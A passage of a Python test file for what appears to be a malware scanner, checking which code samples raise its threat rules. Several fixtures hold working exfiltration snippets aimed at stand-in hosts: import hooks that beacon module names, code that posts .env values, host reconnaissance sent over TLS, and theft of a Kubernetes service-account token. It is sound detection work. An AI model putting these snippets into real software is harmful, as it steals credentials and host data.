        "import builtins, time, requests\n_real = __import__\nT = {}\n"
        "def _hook(name, *a, **k):\n    t = time.perf_counter()\n"
        "    m = _real(name, *a, **k)\n    T[name] = time.perf_counter() - t\n    return m\n"
        "vars(builtins)['__import__'] = _hook\n"
        "def report():\n    requests.post('https://stats.example/t', json=T)\n",
        # gettext's _ put in builtins' namespace, in a file that also downloads
        "import builtins, gettext, requests\nbuiltins.__dict__['_'] = gettext.gettext\n"
        "def fetch(u):\n    return requests.get(u).text\n",
        # an object of this file's own given a callback that sends (a client's settings)
        _SENDING_HOOK + "class Settings:\n    pass\nS = Settings()\nvars(S)['on_import'] = _hook\n"
        "S.__dict__['on_error'] = _hook\n",
    ],
)
def test_a_namespace_store_that_sends_nothing_is_not_a_threat(source: str) -> None:
    assert "CPL-THR-025" not in danger(source)


# -- recall18: an import hook whose finder sends -------------------------------------------

_BEACON_FINDER = (
    "import importlib.abc, sys, urllib.request\n"
    "class _Telemetry(importlib.abc.MetaPathFinder):\n"
    "    def find_spec(self, fullname, path=None, target=None):\n"
    "        urllib.request.urlopen('https://t.recall18.example/i?m=' + fullname)\n"
    "        return None\n"
)
_UDP_FINDER = (
    "import socket, sys\n"
    "class _Finder:\n"
    "    def __init__(self, path):\n        self.path = path\n"
    "    def find_spec(self, fullname, target=None):\n"
    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "        s.sendto(fullname.encode(), ('203.0.113.44', 9999))\n"
    "        return None\n"
    "def _factory(path):\n    return _Finder(path)\n"
)


@pytest.mark.parametrize(
    "source",
    [
        _BEACON_FINDER + "sys.meta_path.insert(0, _Telemetry())\n",
        _BEACON_FINDER + "sys.meta_path.append(_Telemetry())\n",
        _BEACON_FINDER + "sys.meta_path.extend([_Telemetry()])\n",
        _BEACON_FINDER + "from sys import meta_path\nmeta_path.insert(0, _Telemetry())\n",
        _UDP_FINDER + "sys.path_hooks.insert(0, _factory)\n",
        _UDP_FINDER + "sys.path_hooks.append(_Finder)\n",
    ],
)
def test_an_import_hook_whose_finder_sends_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-025" in danger(source)
    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")


@pytest.mark.parametrize(
    "source",
    [
        # an assertion-rewriting or lazy-loading finder that sends nothing, in a file that
        # downloads elsewhere
        "import sys, requests\n"
        "class _Rewriter:\n"
        "    def find_spec(self, fullname, path=None, target=None):\n"
        "        return None\n"
        "sys.meta_path.insert(0, _Rewriter())\n"
        "def fetch(u):\n    return requests.get(u).text\n",
        # a remote importer (httpimport's kind) given its index by the user: no fixed host
        "import importlib.abc, os, sys, urllib.request\n"
        "class _Remote(importlib.abc.MetaPathFinder):\n"
        "    def __init__(self, base):\n        self.base = base\n"
        "    def find_spec(self, fullname, path=None, target=None):\n"
        "        urllib.request.urlopen(self.base + fullname + '.py')\n"
        "        return None\n"
        "def install(base):\n    sys.meta_path.append(_Remote(base))\n",
        # a finder that only logs, beside a client class that sends
        "import logging, sys, requests\n"
        "class _Log:\n"
        "    def find_spec(self, fullname, path=None, target=None):\n"
        "        logging.debug('import %s', fullname)\n"
        "class Client:\n"
        "    def send(self, x):\n        requests.post('https://api.example/v1', json=x)\n"
        "sys.meta_path.append(_Log())\n",
    ],
)
def test_an_import_hook_that_sends_nothing_of_its_own_is_not_a_threat(source: str) -> None:
    assert "CPL-THR-025" not in danger(source)
    assert "CPL-THR-025" not in danger(source, mode=ScanMode.PLUGIN)


# -- recall18: a .env file's values through dotenv's DotEnv class ---------------------------


@pytest.mark.parametrize(
    "source",
    [
        "from dotenv.main import DotEnv\nimport requests\n"
        "requests.post('https://cfg.recall18.example/', json=DotEnv('.env').dict())\n",
        "import dotenv, json, urllib.request\n"
        "env = dotenv.main.DotEnv(dotenv_path='.env')\nvalues = env.dict()\n"
        "urllib.request.urlopen('https://203.0.113.7/s', data=json.dumps(values).encode())\n",
    ],
)
def test_a_dotenv_classs_values_sent_are_harvesting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-006" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")


def test_a_dotenv_classs_values_used_locally_are_clean() -> None:
    # the values put into the environment, one of them the token of its own API
    source = (
        "import os, requests\nfrom dotenv.main import DotEnv\n"
        "values = DotEnv('.env').dict()\nos.environ.update(values)\n"
        "requests.get('https://api.example/v1/me', headers={'Authorization': values['TOKEN']})\n"
    )
    assert "CPL-THR-006" not in danger(source)


# -- blind19: a TLS-wrapped socket, a pod's service-account token ------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "import getpass, socket, ssl\nH = 'telemetry.blind19.example'\n"
        "ctx = ssl.create_default_context()\n"
        "s = ctx.wrap_socket(socket.create_connection((H, 443)), server_hostname=H)\n"
        "s.sendall(getpass.getuser().encode())\n",
        "import os, socket, ssl\nH = 'telemetry.blind19.example'\n"
        "def ping():\n"
        "    body = f'h={socket.gethostname()}&d={os.getcwd()}'.encode()\n"
        "    with socket.create_connection((H, 443)) as raw:\n"
        "        with ssl.SSLContext().wrap_socket(raw, server_hostname=H) as s:\n"
        "            s.sendall(b'POST /c HTTP/1.1\\r\\nHost: ' + H.encode() + b'\\r\\n\\r\\n'\n"
        "                      + body)\n"
        "ping()\n",
    ],
    ids=["assigned", "with-blocks"],
)
def test_host_data_sent_over_a_tls_wrapped_socket_is_reconnaissance_sent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    # a TLS context is no connection, but the socket its wrap_socket makes is one
    assert "CPL-THR-017" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


@pytest.mark.parametrize(
    "source",
    [
        # a fixed request over TLS, no host data in it
        "import socket, ssl\nH = 'api.example.com'\nctx = ssl.create_default_context()\n"
        "with ctx.wrap_socket(socket.create_connection((H, 443)), server_hostname=H) as s:\n"
        "    s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')\n",
        # a context handed to an HTTP client, the host name only logged
        "import logging, socket, ssl, urllib.request\nctx = ssl.create_default_context()\n"
        "logging.info('on %s', socket.gethostname())\n"
        "urllib.request.urlopen('https://pypi.org/simple/', context=ctx)\n",
    ],
    ids=["fixed-request", "context-for-urlopen"],
)
def test_tls_sockets_that_send_no_host_data_are_clean(source: str) -> None:
    assert danger(source) == set()


def test_a_pods_service_account_token_posted_is_credential_theft(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = (
        "import json, urllib.request\nfrom pathlib import Path\n"
        "SA = Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
        "data = {p.name: p.read_text() for p in SA.iterdir() if p.is_file()}\n"
        "urllib.request.urlopen(urllib.request.Request('https://k8s.blind19.example/in',"
        " data=json.dumps(data).encode()))\n"
    )
    assert "CPL-THR-007" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-007")


def test_the_token_sent_to_the_clusters_own_api_server_is_clean() -> None:
    # the kubernetes client's in-cluster configuration: the token authenticates the pod
    # to the API server the environment names, no host written into the code
    source = (
        "import os, requests\n"
        "TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
        "host = os.environ['KUBERNETES_SERVICE_HOST']\n"
        "with open(TOKEN) as f:\n    token = f.read()\n"
        "requests.get(f'https://{host}/api', headers={'Authorization': 'Bearer ' + token})\n"
    )
    assert danger(source) == set()
